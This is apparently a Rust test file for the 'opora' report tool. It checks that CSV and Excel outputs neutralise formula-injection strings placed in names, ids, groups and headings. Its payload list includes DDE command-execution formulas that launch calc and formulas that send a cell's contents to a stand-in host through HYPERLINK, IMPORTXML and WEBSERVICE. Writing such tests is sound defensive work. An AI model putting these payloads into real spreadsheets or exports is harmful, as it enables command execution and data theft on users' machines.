//! Texts that a spreadsheet takes for formulas, wherever data can stand: in names, ids, groups and headings. Whatever a
//! program splits the CSV at, and in a workbook, none is one, and numbers stay numbers.

use std::fs;
use std::io::Cursor;
use std::path::Path;

use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
use opora::model::guarded;

use crate::harness::{Test, files_below};

/// Sixty texts: every sign, with what may stand before it, and what spreadsheets are known to run.
fn formulas() -> Vec<String> {
    const RUN: [&str; 20] = [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "=cmd|'/C calc'!A0",
        "=HYPERLINK(\"http://x/?\"&A1,\"x\")",
        "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
        "=WEBSERVICE(\"http://x\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "@ABS(1)",
        "-2+3+cmd|' /C calc'!A0",
        "=IMAGE(\"http://x/\")",
        "=ФОРМУЛА(1)",
        "=СУММ(A1:A9)",
        "=A1",
        "=Sheet1!A1",
        "=[1]x!A1",
        "+A1",
        "=RTD(\"x\",,\"y\")",
        "=\u{a0}1",
    ];
    const SIGNS: [&str; 8] = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];
    const BEFORE: [&str; 5] = [" ", "\u{a0}", "\u{3000}", "'", "x;"];
    let mut out: Vec<String> = RUN.iter().map(|one| (*one).to_owned()).collect();
    for sign in SIGNS {
        out.extend(BEFORE.iter().map(|before| format!("{before}{sign}7*7")));
    }
    assert_eq!(out.len(), 60);
    out
}

/// A cell of CSV that holds a text.
fn cell(text: &str) -> String {
    format!("\"{}\"", guarded(text).replace('"', "\"\""))
}

/// In TOML.
fn key(text: &str) -> String {
    let text = text.split_whitespace().collect::<Vec<_>>().join(" ");
    format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\""))
}

/// A district in which each of the texts is an id and a name, and one is a group and one heads a column.
pub fn district(at: usize) -> Test {
    let formulas = formulas();
    let (group, complexity, results) = (&formulas[at], &formulas[(at + 20) % 60], &formulas[(at + 40) % 60]);
    let mut table = format!("School,Name,Group,{},{}\n", cell(complexity), cell(results));
    for (row, text) in formulas.iter().enumerate() {
        let id = cell(&format!("{text}n{row}"));
        let group = if row % 2 == 0 { cell(group) } else { "g".to_owned() };
        table += &format!("{id},{},{group},{}.25,{}.5\n", cell(text), row * 37 % 101, row * 53 % 97);
    }
    let settings = format!(
        "school = \"School\"\nname = \"Name\"\nby = \"Group\"\n[complexity.indicators]\n{} = 1\n\
         [results.indicators]\n{} = 1\n",
        key(complexity),
        key(results)
    );
    Test::new().file("data.csv", table).file("opora.toml", settings)
}

fn is_formula(piece: &str) -> bool {
    let text = piece.trim_matches(|c: char| c.is_whitespace() || c == '"' || c == '\u{feff}');
    let is_number = text.replace(',', ".").parse::<f64>().is_ok();
    text.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && !is_number
}

/// Whatever a program splits a CSV at.
#[track_caller]
fn holds_no_formula(what: &str, csv: &str) {
    for delimiter in *b",;\t|" {
        let naive = csv.split(['\n', '\r']).flat_map(|line| line.split(char::from(delimiter))).map(str::to_owned);
        let mut reader = csv::ReaderBuilder::new();
        reader.delimiter(delimiter).has_headers(false).flexible(true);
        let records = reader.from_reader(csv.as_bytes()).into_records();
        let read = records.flat_map(|one| one.expect("a record").iter().map(str::to_owned).collect::<Vec<_>>());
        let found = naive.chain(read).find(|piece| is_formula(piece));
        assert_eq!(found, None, "{what}, split at {:?}", char::from(delimiter));
    }
}

/// A workbook without formulas, whose numbers are numbers; how many there are.
fn numbers_of(bytes: &[u8]) -> usize {
    let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes.to_vec())).expect("a workbook");
    let mut numbers = 0;
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).expect("the sheet");
        assert_eq!(formulas.cells().find(|(.., formula)| !formula.is_empty()), None, "{name}");
        let range = book.worksheet_range(&name).expect("the sheet");
        for (row, column, cell) in range.cells() {
            assert!(
                matches!(cell, Data::Empty | Data::String(_) | Data::Float(_)),
                "{name} {row} {column}: {cell:?}"
            );
            numbers += usize::from(matches!(cell, Data::Float(_)));
        }
    }
    numbers
}

#[test]
fn no_formula_of_the_data_is_one_in_a_result() {
    let names =
        ["schools.csv", "pairs.csv", "moves.csv", "report.json", "report.html", "report.xlsx", "report.docx"];
    for at in [0, 7, 19, 33, 48] {
        for excel in [&[][..], &["--excel"], &["--excel", "--lang", "ru"]] {
            let test = district(at).args(["report", "data.csv", "-q", "-o", "out/"]).args(excel.iter().copied());
            let test = names.iter().fold(test, |test, name| test.creates_any(&format!("out/{name}")));
            let ran = test.any_stderr().run();
            for (name, bytes) in files_below(&ran.folder.path().join("out")) {
                if Path::new(&name).extension().is_some_and(|end| end == "csv") {
                    holds_no_formula(
                        &format!("{name} {at} {excel:?}"),
                        std::str::from_utf8(&bytes).expect("UTF-8"),
                    );
                }
            }
            let bytes = fs::read(ran.folder.path().join("out/report.xlsx")).expect("the workbook");
            assert!(numbers_of(&bytes) >= 60 * 4, "{}", numbers_of(&bytes));
            let schools = fs::read_to_string(ran.folder.path().join("out/schools.csv")).expect("the schools");
            let delimiter = if excel.contains(&"ru") { b';' } else { b',' };
            let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).from_reader(schools.as_bytes());
            let records: Vec<csv::StringRecord> = reader.records().map(|one| one.expect("a record")).collect();
            assert_eq!(records.len(), 60);
            for record in records {
                for at in 4..8 {
                    let cell = record[at].replace(',', ".");
                    assert!(cell.parse::<f64>().is_ok(), "{cell}");
                }
            }
        }
    }
}

/// The list of problems tells cells and headings as they stand.
#[test]
fn no_formula_of_the_data_is_one_in_the_list_of_problems() {
    for at in [0, 12, 30, 55] {
        let heading = &formulas()[at];
        let mut table = format!("School,{},Results\n", cell(heading));
        for (row, text) in formulas().iter().enumerate() {
            table += &format!("n{row},\"{}\",5\n", text.replace('"', "\"\""));
        }
        let test = Test::new().file("data.csv", table);
        let test =
            test.args(["check", "data.csv", "--school", "School", "--complexity", ":2", "--results", "Results"]);
        let test = test.args(["--problems", "p.csv"]).creates_any("p.csv").any_stdout().any_stderr().code(1);
        let ran = test.run();
        let csv = fs::read_to_string(ran.folder.path().join("p.csv")).expect("the list");
        assert!(csv.lines().count() > 50, "{csv}");
        holds_no_formula(&format!("p.csv {at}"), &csv);
    }
}
